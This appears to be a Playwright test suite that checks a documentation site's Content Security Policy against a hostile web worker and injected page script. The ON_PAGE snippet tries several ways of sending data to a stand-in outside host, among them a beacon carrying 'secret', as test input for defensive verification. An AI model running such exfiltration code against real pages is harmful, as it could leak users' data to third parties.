"""The content policy of the pages: it binds them, and the worker that runs Python."""

import http.server
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from hostile_worker import WAYS, other_host, with_hostile_worker
from playwright.sync_api import BrowserContext, Page, expect
from reader import Reader
from site_server import SUB_PATH, Behaviour, address_of, serve
from waiting import wait_until

DATES = "plan/dates/"
NEVER = {"sendBeacon", "worker of another host", "font"}
"""What Chromium lets no worker do anyway."""

ON_PAGE = """(other) => {
    const image = new Image();
    image.src = `${other}image`;
    const frame = document.createElement("iframe");
    frame.src = `${other}frame`;
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${other}style` });
    const script = Object.assign(document.createElement("script"), { src: `${other}script` });
    const inline = Object.assign(document.createElement("script"), { textContent: "self.inline = true" });
    const form = Object.assign(document.createElement("form"), { action: `${other}form`, method: "post" });
    document.body.append(image, frame, link, script, inline, form);
    document.body.insertAdjacentHTML("beforeend", "<b onclick='self.handler = true'>x</b>");
    document.body.lastElementChild.click();
    form.submit();
    fetch(`${other}page-fetch`, { mode: "no-cors" }).catch(() => {});
    navigator.sendBeacon(`${other}page-beacon`, "secret");
}"""
"""What a script in the page could try."""


@contextmanager
def served(site: Path, behave: Behaviour) -> Iterator[str]:
    """Serve the site in a way of its own."""
    server: http.server.ThreadingHTTPServer = serve(site, SUB_PATH, behave)
    yield address_of(server)
    server.shutdown()
    server.server_close()


def attacked(context: BrowserContext, site: Path, *, has_policy: bool) -> set[str]:
    """Open a page whose worker is hostile, and return by which ways it got out."""
    with (
        other_host() as (other, asked),
        served(site, with_hostile_worker(other, has_policy=has_policy)) as address,
    ):
        reader = Reader(context.new_page(), address)
        reader.open(DATES)
        wait_until(reader.page, "self.tried")
        assert tuple(reader.page.evaluate("self.tried")) == WAYS
        return {path.replace("%20", " ") for path in asked}


def test_a_hostile_worker_gets_nothing_out(context: BrowserContext, site: Path) -> None:
    """Python is up all the same: what it is made of comes from this site."""
    assert attacked(context, site, has_policy=True) == set()


def test_without_the_policy_it_would(context: BrowserContext, site: Path) -> None:
    """So the test above says something."""
    assert attacked(context, site, has_policy=False) >= set(WAYS) - NEVER


def test_a_script_in_the_page_gets_nothing_out_either(reader: Reader) -> None:
    """Nor does text that is put into it run."""
    with other_host() as (other, asked):
        reader.open(DATES)
        reader.page.evaluate(ON_PAGE, other)
        reader.page.wait_for_timeout(500)

        assert asked == []
    assert reader.page.evaluate("[self.inline, self.handler]") == [None, None]


def test_the_browser_objects_to_nothing_that_the_site_does(reader: Reader) -> None:
    """On the way through its tools, by links and by full loads."""
    said = watched(reader.page)
    for path in ("", "guide/at-the-interview/", "plan/dates/", "plan/checklist/", "plan/keep/"):
        reader.go(path)
    reader.page.reload()
    reader.wait_for("ready")
    box = reader.page.get_by_role("textbox", name="Search")
    box.fill("voicemail")
    box.press("Shift")
    expect(reader.page.locator(".md-search-result__link").first).to_be_visible()

    assert said == []


def watched(page: Page) -> list[str]:
    """Return what the console says of policies from now on."""
    said: list[str] = []
    page.on(
        "console",
        lambda message: said.extend([message.text] if "Content Security" in message.text else []),
    )
    return said
